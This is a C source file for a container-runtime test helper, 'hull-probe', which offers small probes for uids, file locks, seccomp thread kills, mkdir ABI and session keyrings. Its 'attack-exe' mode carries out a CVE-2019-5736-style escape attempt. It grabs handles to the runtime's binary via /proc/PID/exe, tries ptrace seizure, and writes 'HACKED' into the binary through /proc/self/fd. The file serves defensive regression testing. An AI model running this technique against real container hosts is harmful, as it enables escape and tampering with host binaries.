/* hull-probe: a tiny static helper that hack/mkrootfs puts in the test rootfs, for what
 * busybox cannot show. `hull-probe ids` prints the real, effective and saved uids (a setuid
 * copy, /bin/hull-probe-suid, shows whether exec granted privileges). `hull-probe lock FILE
 * CMD...` takes an exclusive flock on FILE and execs CMD holding it (Debian's busybox has no
 * flock); `hull-probe trylock FILE` prints "got" or "held". `hull-probe thread-getppid`
 * calls getppid in a second thread, then the main thread prints "main alive" (seccomp's
 * KILL_THREAD ends only that thread, KILL_PROCESS all of it). `hull-probe mkdir DIR` prints
 * "made" or the error (the i386 build, hull-probe32, makes the call in the x86 ABI).
 * `hull-probe attack-exe DEV INO DIR` plays a hostile container against the runtime's binary
 * (CVE-2019-5736) and its processes: see attack_exe below. `hull-probe keyring-run CMD...`
 * runs CMD in a new session keyring holding a secret key; `hull-probe keys` prints the
 * session keyring's serial and name, and whether that secret is readable from there. */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <pthread.h>
#include <dirent.h>
#include <stdlib.h>
#include <sys/ptrace.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <time.h>
#include <stdio.h>
#include <string.h>
#include <sys/file.h>
#include <sys/stat.h>
#include <unistd.h>

static void *call_getppid(void *arg)
{
	(void)arg;
	syscall(SYS_getppid);
	return NULL;
}


/* The container's own effective capabilities, or another process's (-1 if gone). */
static long long cap_eff(const char *pid)
{
	char path[64], line[256];
	long long v = -1;
	snprintf(path, sizeof(path), "/proc/%s/status", pid);
	FILE *f = fopen(path, "re");
	if (!f)
		return -1;
	while (fgets(line, sizeof(line), f))
		if (sscanf(line, "CapEff: %llx", &v) == 1)
			break;
	fclose(f);
	return v;
}

#define MAX_KEPT 64
static int kept[MAX_KEPT], nkept, seen;
static int handled[4096];
static long long own_caps;
static FILE *out;

/* A process of the runtime (its exe is DEV:INO): try to write its binary now, keep an O_PATH
 * handle for later, and try to seize it with ptrace and see what it holds. */
static void attack_pid(int pid, int exe, dev_t dev, ino_t ino)
{
	struct stat st;
	char self[64], spid[16];
	if (pid <= 0 || pid >= 4096 || handled[pid] || fstat(exe, &st) != 0 || st.st_dev != dev ||
	    st.st_ino != ino) {
		close(exe);
		return;
	}
	handled[pid] = 1;
	seen++;
	snprintf(spid, sizeof(spid), "%d", pid);
	snprintf(self, sizeof(self), "/proc/self/fd/%d", exe);
	int w = open(self, O_WRONLY | O_CLOEXEC);
	fprintf(out, "pid %d: open for writing now: %s\n", pid, w >= 0 ? "OPENED" : strerror(errno));
	if (w >= 0)
		close(w);
	if (ptrace(PTRACE_SEIZE, pid, 0, 0) == 0) {
		long long caps = cap_eff(spid);
		fprintf(out, "pid %d: seized, CapEff %llx (own %llx): %s\n", pid, caps, own_caps,
			caps != -1 && (caps & ~own_caps) ? "PRIVILEGED" : "no more than ours");
		if (ptrace(PTRACE_INTERRUPT, pid, 0, 0) == 0)
			waitpid(pid, NULL, __WALL);
		ptrace(PTRACE_DETACH, pid, 0, 0);
	} else {
		fprintf(out, "pid %d: seize refused: %s\n", pid, strerror(errno));
	}
	fflush(out);
	if (nkept < MAX_KEPT)
		kept[nkept++] = exe;
	else
		close(exe);
}

static int noted[4096];

/* Any other process, once: its pid and what it runs (so a test sees what it watched). */
static void note_other(int pid, int exe)
{
	char self[64], target[256];
	struct stat st;
	if (noted[pid] || fstat(exe, &st) != 0)
		return;
	noted[pid] = 1;
	snprintf(self, sizeof(self), "/proc/self/fd/%d", exe);
	ssize_t n = readlink(self, target, sizeof(target) - 1);
	target[n > 0 ? n : 0] = 0;
	fprintf(out, "pid %d: other exe %s\n", pid, target);
	fflush(out);
}

static void try_pid(int pid, dev_t dev, ino_t ino)
{
	char path[64];
	struct stat st;
	if (pid <= 0 || pid >= 4096 || handled[pid])
		return;
	snprintf(path, sizeof(path), "/proc/%d/exe", pid);
	int fd = open(path, O_PATH | O_CLOEXEC);
	if (fd < 0)
		return;
	if (pid != getpid() && fstat(fd, &st) == 0 && (st.st_dev != dev || st.st_ino != ino)) {
		note_other(pid, fd);
		close(fd);
		return;
	}
	attack_pid(pid, fd, dev, ino);
}

/* Watch the pid namespace for processes whose exe is DEV:INO (the runtime's binary) until
 * DIR/stop appears, polling the next pids in a tight loop (an exec'd process is visible only
 * briefly) and rescanning /proc now and then. Then, with the runtime gone, reopen every kept
 * handle for writing (through /proc/self/fd, as an attacker would) and, if that works, write.
 * Writes its findings to DIR/out; "done" last. */
static int attack_exe(dev_t dev, ino_t ino, const char *dir)
{
	char path[512];
	snprintf(path, sizeof(path), "%s/out", dir);
	out = fopen(path, "we");
	if (!out)
		return 1;
	own_caps = cap_eff("self");
	int next = getpid() + 1;
	snprintf(path, sizeof(path), "%s/stop", dir);
	for (long round = 0;; round++) {
		for (int p = next; p < next + 4; p++)
			try_pid(p, dev, ino);
		if (round % 2000 == 0) {
			DIR *d = opendir("/proc");
			struct dirent *e;
			while (d && (e = readdir(d))) {
				int p = atoi(e->d_name);
				if (p > 0 && p != getpid())
					try_pid(p, dev, ino);
				if (p >= next)
					next = p + 1;
			}
			if (d)
				closedir(d);
			if (access(path, F_OK) == 0)
				break;
			if (round > 0) {
				fprintf(out, "watching, seen %d\n", seen);
				fflush(out);
			}
		}
	}
	for (int i = 0; i < nkept; i++) {
		char self[64];
		snprintf(self, sizeof(self), "/proc/self/fd/%d", kept[i]);
		int w = -1, tries = 0;
		/* ETXTBSY only means some process still runs the binary: not an answer yet. */
		while ((w = open(self, O_WRONLY | O_CLOEXEC)) < 0 && errno == ETXTBSY && tries++ < 300)
			usleep(100 * 1000);
		if (w >= 0) {
			ssize_t n = pwrite(w, "HACKED", 6, 0);
			fprintf(out, "kept handle %d: WROTE %zd bytes\n", i, n);
			close(w);
		} else {
			fprintf(out, "kept handle %d: reopen for writing: %s\n", i, strerror(errno));
		}
	}
	fprintf(out, "seen %d\ndone\n", seen);
	fclose(out);
	return 0;
}

#define KEYCTL_GET_KEYRING_ID 0
#define KEYCTL_JOIN_SESSION_KEYRING 1
#define KEYCTL_DESCRIBE 6
#define KEYCTL_SEARCH 10
#define KEYCTL_READ 11
#define KEY_SPEC_SESSION_KEYRING -3

static int keyring_run(char **cmd)
{
	if (syscall(SYS_keyctl, KEYCTL_JOIN_SESSION_KEYRING, NULL) < 0 ||
	    syscall(SYS_add_key, "user", "hull-test-secret", "s3cret", 6, KEY_SPEC_SESSION_KEYRING) < 0) {
		perror("keyring-run");
		return 1;
	}
	execvp(cmd[0], cmd);
	perror(cmd[0]);
	return 127;
}

static int keys(void)
{
	char desc[256] = "";
	long id = syscall(SYS_keyctl, KEYCTL_GET_KEYRING_ID, KEY_SPEC_SESSION_KEYRING, 0);
	long n = syscall(SYS_keyctl, KEYCTL_DESCRIBE, KEY_SPEC_SESSION_KEYRING, desc, sizeof(desc) - 1);
	const char *name = n > 0 ? strrchr(desc, ';') : NULL;
	printf("session %ld %s\n", id, name ? name + 1 : strerror(errno));
	long key = syscall(SYS_keyctl, KEYCTL_SEARCH, KEY_SPEC_SESSION_KEYRING, "user", "hull-test-secret", 0);
	char payload[64] = "";
	if (key < 0 || syscall(SYS_keyctl, KEYCTL_READ, key, payload, sizeof(payload) - 1) < 0)
		printf("secret: %s\n", strerror(errno));
	else
		printf("secret: %s\n", payload);
	return 0;
}

int main(int argc, char **argv)
{
	if (argc >= 3 && strcmp(argv[1], "keyring-run") == 0)
		return keyring_run(argv + 2);
	if (argc == 2 && strcmp(argv[1], "keys") == 0)
		return keys();
	if (argc == 5 && strcmp(argv[1], "attack-exe") == 0)
		return attack_exe(strtoull(argv[2], NULL, 10), strtoull(argv[3], NULL, 10), argv[4]);
	if (argc == 3 && strcmp(argv[1], "mkdir") == 0) {
		if (mkdir(argv[2], 0755) == 0)
			puts("made");
		else
			puts(strerror(errno));
		return 0;
	}
	if (argc == 2 && strcmp(argv[1], "thread-getppid") == 0) {
		pthread_t t;
		if (pthread_create(&t, NULL, call_getppid, NULL) != 0)
			return 1;
		usleep(300 * 1000);
		puts("main alive");
		return 0;
	}
	if (argc == 2 && strcmp(argv[1], "ids") == 0) {
		uid_t r, e, s;
		getresuid(&r, &e, &s);
		printf("ruid=%u euid=%u suid=%u\n", r, e, s);
		return 0;
	}
	if (argc >= 4 && strcmp(argv[1], "lock") == 0) {
		int fd = open(argv[2], O_RDWR | O_CREAT, 0644); /* no O_CLOEXEC: CMD keeps the lock */
		if (fd < 0 || flock(fd, LOCK_EX) != 0) {
			perror(argv[2]);
			return 1;
		}
		execvp(argv[3], argv + 3);
		perror(argv[3]);
		return 127;
	}
	if (argc == 3 && strcmp(argv[1], "trylock") == 0) {
		int fd = open(argv[2], O_RDWR | O_CREAT | O_CLOEXEC, 0644);
		if (fd < 0) {
			perror(argv[2]);
			return 1;
		}
		puts(flock(fd, LOCK_EX | LOCK_NB) == 0 ? "got" : "held");
		return 0;
	}
	fprintf(stderr, "usage: hull-probe ids | keyring-run CMD... | keys | attack-exe DEV INO DIR | lock FILE CMD... | trylock FILE | thread-getppid | mkdir DIR\n");
	return 2;
}
